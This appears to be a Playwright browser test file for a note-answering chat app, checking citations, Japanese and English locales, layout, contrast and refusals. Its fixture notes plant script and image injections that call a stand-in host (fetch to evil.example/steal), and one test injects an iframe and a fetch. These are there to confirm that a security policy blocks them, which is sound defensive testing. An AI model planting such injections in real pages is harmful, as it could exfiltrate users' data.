"""The page in a real browser: real notes, real index, real models, real server."""

from __future__ import annotations

import re
import subprocess
import sys
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest
from ui_servers import ROOT, Watched, serve

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Locator, Page

pytestmark = pytest.mark.browser

GARDEN = """# 庭の手引き

## 水やり

- **トマトの水やり**は毎朝六時に行う
  - 一株あたり二リットルを根元に注ぐ
  - 葉に水をかけると病気になりやすい
- きゅうりは夕方にも水を飲む
  - 真夏は一日二回

## 道具

- じょうろは物置の左の棚にある
- ![写真](https://evil.example/photo.png) <img src="https://evil.example/raw.png">
"""
OFFICE = """# Office handbook

## Visitors

- Visitors sign in at the reception desk on the second floor
  - badges are returned in the evening
- [How badges work](https://badges.example/guide)

## Printers

- The blue printer accepts only recycled paper
  - <script>fetch("https://evil.example/steal")</script>
"""
GUIDE = """<!doctype html><html lang="en"><head><title>How badges work</title></head><body><main>
<article><h1>How badges work</h1>
<p>Every badge carries a small chip that opens the doors of one floor. The chip is written when a
visitor signs in, and it is erased again at midnight, whether or not the badge was returned.</p>
<p>A badge that was lost is blocked by the reception desk within five minutes of the report, and a
new badge is printed while the visitor waits. Nobody else needs to be told about it.</p>
</article></main></body></html>
"""


# Text with too little contrast to what is painted behind it, blended by a canvas.
FAINT = """() => {
    const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
    const painted = (colours) => {
        canvas.clearRect(0, 0, 1, 1);
        for (const colour of colours) { canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1); }
        return [...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3);
    };
    const light = (rgb) => rgb.map((v) => v / 255)
        .map((v) => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))
        .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
    const own = "[class*=shiori-], [data-testid^=stBaseButton] p, textarea";
    return [...document.querySelectorAll(own)].filter((e) => {
        const says = [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
        return says && e.checkVisibility() && !e.closest("button:disabled");
    }).filter((e) => {
        const behind = [];
        for (let at = e; at; at = at.parentElement)
            behind.unshift(getComputedStyle(at).backgroundColor);
        const [text, ground] = [[...behind, getComputedStyle(e).color], behind]
            .map((colours) => light(painted(["white", ...colours])));
        return (Math.max(text, ground) + 0.05) / (Math.min(text, ground) + 0.05) < 4.5;
    }).map((e) => `${e.className}: ${e.textContent.trim().slice(0, 30)}`);
}"""


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server over two notes and one saved article, indexed by the real program."""
    folder = tmp_path_factory.mktemp("browser")
    corpus, data = folder / "corpus", folder / "data"
    for name, text in {
        "notes/garden.md": GARDEN,
        "notes/office.md": OFFICE,
        "snapshots/guide.html": GUIDE,
        "snapshots/links.yaml": "guide.html: https://badges.example/guide\n",
    }.items():
        (corpus / name).parent.mkdir(parents=True, exist_ok=True)
        (corpus / name).write_text(text, encoding="utf-8")
    places = ["--corpus", str(corpus), "--data", str(data)]
    done = subprocess.run(
        [sys.executable, "-m", "ingest", "--offline", *places],
        cwd=ROOT, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    command = ["-m", "ui", "--no-browser", *places]
    with serve(command, folder / "server.log") as url:
        yield url


@pytest.fixture
def visit(browser: Browser, address: str) -> Iterator[Visit]:
    opened = Visit(browser, address)
    yield opened
    opened.close()


class Visit:
    """A browser of one reader; checks at its end that no request left the machine."""

    def __init__(self, browser: Browser, address: str) -> None:
        self.browser, self.address = browser, address
        self.watched: list[Watched] = []

    def open(
        self, path: str = "/", *, locale: str = "en-US", width: int = 1280, dark: bool = False
    ) -> Page:
        context = self.browser.new_context(
            viewport={"width": width, "height": 844},
            locale=locale,
            color_scheme="dark" if dark else "light",
            reduced_motion="reduce",
        )
        context.set_default_timeout(60_000)
        self.watched.append(Watched(context))
        page = context.new_page()
        page.goto(self.address + path)
        return page

    def close(self) -> None:
        for context in self.browser.contexts:
            context.close()
        assert [url for watched in self.watched for url in watched.foreign] == []
        assert [text for watched in self.watched for text in watched.broken] == []


def ask(page: Page, question: str) -> Locator:
    """Ask and wait for the whole answer."""
    before = page.locator(".shiori-made-by").count()
    box = page.get_by_test_id("stChatInputTextArea")
    box.fill(question)
    box.press("Enter")
    page.locator(".shiori-made-by").nth(before).wait_for()
    return page.locator(".shiori-answer").last


def open_panel(page: Page, number: int = 0) -> Locator:
    page.locator(".shiori-answer").last.locator(".shiori-mark").nth(number).click()
    panel = page.locator(".shiori-panel:popover-open")
    panel.wait_for()
    return panel


def panel_with(page: Page, text: str) -> Locator:
    """Open the citations of the last answer until one marks the text."""
    for number in range(page.locator(".shiori-answer").last.locator(".shiori-mark").count()):
        panel = open_panel(page, number)
        if text in "".join(panel.locator("mark").all_inner_texts()):
            return panel
        page.keyboard.press("Escape")
    raise AssertionError(f"no citation marks {text!r}")


def test_an_english_question_opens_the_lines_of_a_japanese_note(visit: Visit) -> None:
    page = visit.open()
    page.get_by_placeholder("Ask about the notes").wait_for()
    answer = ask(page, "When are tomatoes watered?")
    assert "二リットル" in answer.inner_text()
    panel = panel_with(page, "一株あたり二リットルを根元に注ぐ")
    marked = panel.locator("mark").filter(has_text="二リットル")
    assert marked.is_visible()
    assert marked.evaluate("e => getComputedStyle(e).backgroundColor") != "rgba(0, 0, 0, 0)"
    line = panel.locator(".shiori-line", has=page.locator("mark", has_text="二リットル"))
    assert line.locator(".shiori-line-number").inner_text() == "6"
    text = panel.inner_text()
    assert "garden.md" in text and "水やり" in text and "lines" in text
    assert "きゅうり" in text  # what stands around it
    box = panel.bounding_box()
    assert box and box["x"] > 400 and box["x"] + box["width"] == pytest.approx(1280, abs=1)
    page.keyboard.press("Escape")
    assert page.locator(".shiori-panel:popover-open").count() == 0


def test_a_japanese_question_in_a_japanese_browser(visit: Visit) -> None:
    page = visit.open(locale="ja-JP")
    page.get_by_placeholder("ノートについて質問する").wait_for()
    assert page.evaluate("document.documentElement.lang") == "ja"
    answer = ask(page, "じょうろはどこにありますか？")
    assert "物置の左の棚" in answer.inner_text()
    panel = panel_with(page, "じょうろは物置の左の棚にある")
    assert "行目" in panel.inner_text()
    panel.get_by_label("閉じる").click()
    assert page.locator(".shiori-panel:popover-open").count() == 0


def test_an_article_can_be_opened_where_it_stands(visit: Visit) -> None:
    page = visit.open()
    ask(page, "What happens when a badge is lost?")
    panel = panel_with(page, "A badge that was lost")
    link = panel.get_by_role("link")
    assert re.match(r"https://badges\.example/guide(#.*)?$", link.get_attribute("href") or "")
    assert link.get_attribute("target") == "_blank"
    assert "noopener" in (link.get_attribute("rel") or "")
    assert "office.md" in panel.inner_text()  # linked from


def test_nothing_in_notes_runs_or_loads(visit: Visit) -> None:
    page = visit.open()
    ask(page, "Where is the watering can?")
    ask(page, "Which paper does the blue printer accept?")
    panel_with(page, "recycled paper")
    assert page.locator("img[src*=evil], script:text('evil')").count() == 0
    page.keyboard.press("Escape")
    page.goto(visit.address + "/library")
    page.locator(".shiori-list").first.wait_for()


def test_the_policy_stops_what_gets_past_everything_else(browser: Browser, address: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(address)
    page.get_by_test_id("stChatInputTextArea").wait_for()
    stopped = page.evaluate(
        """async () => {
            const seen = [];
            addEventListener("securitypolicyviolation", e => seen.push(e.effectiveDirective));
            document.body.insertAdjacentHTML("beforeend",
                '<img src="https://evil.example/a.png"><iframe src="https://evil.example/"></iframe>');
            const script = document.createElement("script");
            script.textContent = "window.ran = true";
            document.body.append(script);
            await fetch("https://evil.example/x").catch(() => null);
            await new Promise(done => setTimeout(done, 500));
            return [window.ran ?? false, seen.sort()];
        }"""
    )
    context.close()
    assert stopped == [False, ["connect-src", "frame-src", "img-src", "script-src-elem"]]


def fits(page: Page) -> bool:
    """Whether nothing is wider than the page."""
    return bool(
        page.evaluate(
            """() => [document.documentElement, ...document.querySelectorAll(
                "[data-testid=stMain], .shiori-panel:popover-open"
            )].every(e => e.scrollWidth <= Math.ceil(e.clientWidth))"""
        )
    )


@pytest.mark.parametrize("locale", ["en-US", "ja-JP"])
def test_a_phone_shows_everything_without_sideways_scrolling(visit: Visit, locale: str) -> None:
    page = visit.open(width=390, locale=locale)
    page.locator(".st-key-examples").wait_for()
    assert fits(page)
    ask(page, "トマトの水やりはいつ？")
    assert fits(page)
    panel = open_panel(page)
    box = panel.bounding_box()
    assert box and (box["x"], box["width"]) == (0, 390)
    assert fits(page)
    for path, shown in (
        ("/onboarding", ".shiori-topic"),
        ("/library", ".shiori-list"),
        ("/quality", "code"),
    ):
        page.goto(visit.address + path)
        page.locator(shown).first.wait_for()
        assert fits(page), path


def test_a_conversation_survives_a_reload_and_belongs_to_its_browser(visit: Visit) -> None:
    page = visit.open()
    ask(page, "Where do visitors sign in?")
    page.reload()
    page.get_by_text("Where do visitors sign in?").first.wait_for()
    page.locator(".shiori-answer").wait_for()
    assert "?c=" in page.url
    other = visit.open("/?" + page.url.partition("?")[2])
    other.locator(".shiori-welcome").wait_for()
    assert other.get_by_text("Where do visitors sign in?").count() == 0


def test_the_newest_question_is_brought_to_the_top(visit: Visit) -> None:
    page = visit.open()
    for question in ("Where do visitors sign in?", "When are tomatoes watered?"):
        ask(page, question)
    page.wait_for_function(
        """() => {
            const last = [...document.querySelectorAll(".shiori-question")].pop();
            return last.getBoundingClientRect().top < innerHeight * 0.2;
        }"""
    )


def test_examples_topics_and_pages_lead_to_answers(visit: Visit) -> None:
    page = visit.open("/onboarding")
    page.locator(".shiori-topic h2").wait_for()
    topic = page.locator(".shiori-topic h2").inner_text()
    page.locator(".st-key-ask-topic button").click()
    page.locator(".shiori-made-by").wait_for()
    assert topic in page.locator(".shiori-question").inner_text()
    page.get_by_role("button", name="New conversation").click()
    page.locator(".st-key-examples button").first.click()
    page.locator(".shiori-made-by").wait_for()
    assert page.locator(".shiori-question").count() == 1


@pytest.mark.parametrize("dark", [True, False])
def test_the_page_follows_light_and_dark(visit: Visit, dark: bool) -> None:
    page = visit.open(dark=dark)
    page.locator(".shiori-welcome").wait_for()
    light = page.locator(".stApp").evaluate(
        "e => getComputedStyle(e).backgroundColor.match(/\\d+/g).slice(0, 3).every(c => c > 128)"
    )
    assert light is not dark


def test_a_passage_far_down_its_panel_is_brought_into_view(visit: Visit) -> None:
    page = visit.open(width=390)
    page.set_viewport_size({"width": 390, "height": 260})
    ask(page, "When are tomatoes watered?")
    for number in range(page.locator(".shiori-answer .shiori-mark").count()):
        page.locator(".shiori-answer .shiori-mark").nth(number).press("Enter")
        page.wait_for_function(
            """() => {
                const mark = document.querySelector(".shiori-panel:popover-open mark");
                const { top, bottom } = mark.getBoundingClientRect();
                const head = document.querySelector(".shiori-panel:popover-open header");
                return top >= head.getBoundingClientRect().bottom && bottom <= innerHeight;
            }"""
        )
        page.keyboard.press("Escape")


def test_the_keyboard_alone_opens_and_closes_a_passage(visit: Visit) -> None:
    page = visit.open()
    ask(page, "When are tomatoes watered?")
    mark = page.locator(".shiori-answer .shiori-mark").first
    mark.focus()
    page.keyboard.press("Enter")
    page.locator(".shiori-panel:popover-open").wait_for()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "shiori-close"
    page.keyboard.press("Escape")
    assert page.locator(".shiori-panel:popover-open").count() == 0
    assert mark.evaluate("e => e === document.activeElement")


@pytest.mark.parametrize("dark", [True, False])
def test_what_is_written_can_be_read(visit: Visit, dark: bool) -> None:
    """Contrast of at least 4.5 (WCAG 2.2, 1.4.3) of all text of our own and of main buttons."""
    page = visit.open(dark=dark)
    ask(page, "What do the notes say about watering?")
    open_panel(page)
    assert page.evaluate(FAINT) == []
    page.keyboard.press("Escape")
    ask(page, "How much does a ticket to the moon cost?")
    assert page.evaluate(FAINT) == []
    for path, shown in (("/onboarding", ".st-key-ask-topic"), ("/library", ".shiori-list")):
        page.goto(visit.address + path)
        page.locator(shown).first.wait_for()
        assert page.evaluate(FAINT) == [], path


def test_topics_of_a_refusal_are_offered_once(visit: Visit) -> None:
    page = visit.open()
    answer = ask(page, "How much does a ticket to the moon cost?")
    assert "don't answer this" in answer.inner_text()
    topics = page.locator("[class*=st-key-topics-] button")
    assert topics.count()
    assert answer.locator("li").count() == 0
    topics.first.click()
    page.locator(".shiori-made-by").nth(1).wait_for()


def test_every_number_of_an_answer_opens_a_marked_passage(visit: Visit) -> None:
    page = visit.open()
    answer = ask(page, "What do the notes say about watering?")
    count = answer.locator(".shiori-mark").count()
    assert count
    for number in range(count):
        panel = open_panel(page, number)
        assert panel.locator("mark").first.is_visible()
        page.keyboard.press("Escape")
